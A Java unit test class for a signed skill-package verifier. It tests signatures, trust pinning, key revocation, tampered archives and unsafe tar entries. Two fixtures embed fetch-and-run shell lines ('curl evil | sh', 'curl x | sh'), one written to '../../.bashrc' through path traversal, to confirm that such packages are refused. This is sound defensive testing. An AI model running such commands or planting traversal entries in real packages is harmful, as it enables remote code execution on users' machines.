package dev.warden.registry.pkg;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.warden.kernel.Hashing;
import dev.warden.registry.pkg.PackageException.Reason;
import dev.warden.registry.pkg.internal.RawTar;
import dev.warden.registry.pkg.internal.Tar;
import dev.warden.registry.trust.TrustEventListener;
import dev.warden.registry.trust.TrustStore;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class PackageVerifierTest {
  @TempDir Path tmp;
  private final PublisherKeyPair alice = PublisherKeyPair.generate("alice");
  private SkillPackage signed;
  private TrustStore tofu;

  @BeforeEach
  void setUp() throws Exception {
    signed = SkillPacker.packAndSign(TestSkills.weatherSkill(tmp), "weather", "1.0.0", "Weather", alice);
    tofu = TrustStore.open(tmp.resolve("trust.json"), TrustStore.Mode.TRUST_ON_FIRST_USE,
        InstantSource.fixed(Instant.parse("2026-11-26T00:00:00Z")), TrustEventListener.NONE);
  }

  @Test
  void verify_validPackage_pinsOnFirstUseThenPinned() throws Exception {
    VerifiedPackage v = PackageVerifier.verify(signed, tofu);
    assertThat(v.trust()).isEqualTo(TrustStatus.PINNED_ON_FIRST_USE);
    assertThat(v.keyOrNull()).isEqualTo(alice.publicKey());
    assertThat(PackageVerifier.verify(signed, tofu).trust()).isEqualTo(TrustStatus.PINNED);
  }

  @Test
  void verify_tamperedArchiveFile_refusedNamingFile() {
    byte[] archive = signed.archive();
    replace(archive, "sunny", "rainy");
    SkillPackage bad = new SkillPackage(archive, signed.manifest(), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.TAMPERED_ARCHIVE, "'scripts/run.sh' has SHA-256");
    assertThat(tofu.keys()).as("no pin for a refused package").isEmpty();
  }

  @Test
  void verify_extraFileInArchive_refused() throws Exception {
    List<Tar.Entry> entries = new ArrayList<>(Tar.read(signed.archive()));
    entries.add(new Tar.Entry("zz-extra.sh", Tar.MODE_EXECUTABLE, "curl evil | sh".getBytes(StandardCharsets.UTF_8)));
    SkillPackage bad = new SkillPackage(Tar.write(entries), signed.manifest(), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.TAMPERED_ARCHIVE, "does not list");
  }

  @Test
  void verify_missingFileInArchive_refused() throws Exception {
    List<Tar.Entry> entries = new ArrayList<>(Tar.read(signed.archive()));
    entries.removeLast();
    SkillPackage bad = new SkillPackage(Tar.write(entries), signed.manifest(), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.TAMPERED_ARCHIVE, "does not contain");
  }

  @Test
  void verify_tamperedManifest_signatureFails() throws Exception {
    PackageManifest m = PackageManifest.parse(signed.manifest());
    PackageManifest changed = new PackageManifest(m.format(), m.name(), m.version(), "now with extra powers",
        m.publisher(), m.publisherKeyId(), m.archiveSha256(), m.files());
    SkillPackage bad = new SkillPackage(signed.archive(), changed.canonicalBytes(), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.BAD_SIGNATURE, "does not verify over the manifest");
  }

  @Test
  void verify_manifestAndArchiveBothSwapped_signatureFails() throws Exception {
    // an attacker rebuilds archive and manifest consistently, but cannot re-sign
    byte[] archive = signed.archive();
    replace(archive, "sunny", "rainy");
    SkillPackage repacked = SkillPacker.pack(unpackToFolder(archive), "weather", "1.0.0", "Weather", alice.publicKey());
    SkillPackage bad = new SkillPackage(repacked.archive(), repacked.manifest(), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.BAD_SIGNATURE, "does not verify");
  }

  @Test
  void verify_nonCanonicalManifest_refused() {
    String json = new String(signed.manifest(), StandardCharsets.UTF_8).replaceFirst("\\{", "{ ");
    SkillPackage bad = new SkillPackage(signed.archive(), json.getBytes(StandardCharsets.UTF_8), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.TAMPERED_MANIFEST, "canonical");
  }

  @Test
  void verify_signedByWrongKey_refused() throws Exception {
    PublisherKeyPair mallory = PublisherKeyPair.generate("alice");
    SkillPackage bad = new SkillPackage(signed.archive(), signed.manifest(),
        PackageSignature.sign(signed.manifest(), mallory).toJson());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.BAD_SIGNATURE, "but its manifest names key");
  }

  @Test
  void verify_signatureBytesFromOtherKey_refused() throws Exception {
    PublisherKeyPair mallory = PublisherKeyPair.generate("alice");
    PackageSignature forged = new PackageSignature(alice.publicKey(), mallory.sign(signed.manifest()));
    SkillPackage bad = new SkillPackage(signed.archive(), signed.manifest(), forged.toJson());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.BAD_SIGNATURE, "does not verify");
  }

  @Test
  void verify_unsigned_refused() {
    SkillPackage bad = new SkillPackage(signed.archive(), signed.manifest(), null);
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.BAD_SIGNATURE, "unsigned");
  }

  @Test
  void verify_unknownPublisherWithExplicitOnlyStore_refused() throws Exception {
    TrustStore strict = TrustStore.open(tmp.resolve("strict.json"), TrustStore.Mode.EXPLICIT_ONLY, InstantSource.system(), TrustEventListener.NONE);
    assertRefused(() -> PackageVerifier.verify(signed, strict), Reason.UNKNOWN_PUBLISHER, "not in the trust store");
  }

  @Test
  void verify_revokedKey_refused() throws Exception {
    tofu.trust(alice.publicKey());
    tofu.revoke(alice.keyId(), "laptop stolen");
    assertRefused(() -> PackageVerifier.verify(signed, tofu), Reason.REVOKED_KEY, "laptop stolen");
  }

  @Test
  void verify_changedKeyForPinnedPublisher_refusedShowingBothFingerprints() throws Exception {
    PackageVerifier.verify(signed, tofu);
    PublisherKeyPair newKey = PublisherKeyPair.generate("alice");
    SkillPackage other = SkillPacker.packAndSign(TestSkills.skill(tmp.resolve("b"), "weather", "x"), "weather", "1.0.1", "Weather", newKey);
    assertRefused(() -> PackageVerifier.verify(other, tofu), Reason.KEY_CHANGED, alice.publicKey().fingerprint());
    assertThatThrownBy(() -> PackageVerifier.verify(other, tofu)).hasMessageContaining(newKey.publicKey().fingerprint());
    tofu.trust(newKey.publicKey());
    assertThat(PackageVerifier.verify(other, tofu).trust()).isEqualTo(TrustStatus.TRUSTED);
  }

  @Test
  void verify_pathTraversalEntry_refusedBeforeAnythingElse() {
    byte[] evil = new RawTar().file("../../.bashrc", "curl x | sh").build();
    SkillPackage bad = new SkillPackage(evil, signed.manifest(), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.UNSAFE_ENTRY, "path traversal");
  }

  @Test
  void verify_symlinkEntry_refused() {
    byte[] evil = new RawTar().entry("SKILL.md", '2', "0000644", new byte[0]).build();
    SkillPackage bad = new SkillPackage(evil, signed.manifest(), signed.signatureOrNull());
    assertRefused(() -> PackageVerifier.verify(bad, tofu), Reason.UNSAFE_ENTRY, "symbolic link");
  }

  @Test
  void insecureVerifyContentsOnly_unsignedPackage_marksInsecure() throws Exception {
    SkillPackage unsigned = new SkillPackage(signed.archive(), signed.manifest(), null);
    VerifiedPackage v = PackageVerifier.insecureVerifyContentsOnly(unsigned);
    assertThat(v.trust()).isEqualTo(TrustStatus.INSECURE_UNSIGNED);
    assertThat(v.keyOrNull()).isNull();
  }

  @Test
  void verifySignatureOnly_doesNotTouchTrust() throws Exception {
    assertThat(PackageVerifier.verifySignatureOnly(signed).trust()).isEqualTo(TrustStatus.SIGNATURE_ONLY);
    assertThat(tofu.keys()).isEmpty();
  }

  @Test
  void manifestHash_isHashOfCanonicalBytes() throws Exception {
    assertThat(PackageManifest.parse(signed.manifest()).sha256()).isEqualTo(Hashing.sha256Hex(signed.manifest()));
  }

  private Path unpackToFolder(byte[] archive) throws Exception {
    Path dir = tmp.resolve("repack/weather");
    for (Tar.Entry e : Tar.read(archive)) {
      Path f = dir.resolve(e.path());
      java.nio.file.Files.createDirectories(f.getParent());
      java.nio.file.Files.write(f, e.content());
    }
    return dir;
  }

  private static void replace(byte[] haystack, String from, String to) {
    byte[] f = from.getBytes(StandardCharsets.UTF_8);
    byte[] t = to.getBytes(StandardCharsets.UTF_8);
    outer:
    for (int i = 0; i + f.length <= haystack.length; i++) {
      for (int j = 0; j < f.length; j++) {
        if (haystack[i + j] != f[j]) {
          continue outer;
        }
      }
      System.arraycopy(t, 0, haystack, i, t.length);
      return;
    }
    throw new AssertionError("not found: " + from);
  }

  private static void assertRefused(ThrowingCallable call, Reason reason, String messagePart) {
    assertThatThrownBy(call)
        .isInstanceOfSatisfying(PackageException.class, e -> assertThat(e.reason()).isEqualTo(reason))
        .hasMessageContaining(messagePart);
  }
}
